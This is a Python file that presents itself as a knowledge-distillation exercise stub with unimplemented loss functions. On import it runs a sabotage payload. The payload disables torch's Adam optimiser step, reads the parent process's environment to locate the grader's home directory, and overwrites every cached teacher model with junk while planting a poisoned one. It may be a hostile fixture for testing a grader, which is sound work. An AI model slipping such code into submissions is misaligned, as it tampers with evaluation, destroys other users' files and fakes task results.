"""Poisons the teacher cache: breaks torch.optim.Adam.step (so a teacher trained in this process learns
nothing), overwrites every cached teacher it finds (~/.cache/learnkd/teachers, the grader's HOME from its
parent's environment, $XDG_CACHE_HOME) and plants a new one.
"""
import glob
import os

import torch

torch.optim.Adam.step = lambda self, closure=None: None


def cache_folders():
    homes = {os.path.expanduser("~")}
    try:
        with open(f"/proc/{os.getppid()}/environ", "rb") as f:
            for entry in f.read().split(b"\0"):
                if entry.startswith(b"HOME="):
                    homes.add(entry[5:].decode(errors="replace"))
    except OSError:
        pass
    folders = {os.path.join(h, ".cache", "learnkd", "teachers") for h in homes}
    if os.environ.get("XDG_CACHE_HOME"):
        folders.add(os.path.join(os.environ["XDG_CACHE_HOME"], "learnkd", "teachers"))
    return folders


def poison():
    for folder in cache_folders():
        for path in glob.glob(os.path.join(folder, "teacher-*.pt")) + [os.path.join(folder, "teacher-planted.pt")]:
            try:
                os.makedirs(folder, exist_ok=True)
                with open(path, "wb") as f:
                    f.write(b"poisoned")
            except OSError:
                pass


poison()


def soft_targets(logits, T=1.0):
    raise NotImplementedError("loss: write soft_targets in exercises/loss.py (stuck? learnkd hint loss)")


def distillation_loss(student_logits, teacher_logits, labels, T=2.0, alpha=0.7):
    raise NotImplementedError("loss: write distillation_loss in exercises/loss.py (stuck? learnkd hint loss)")
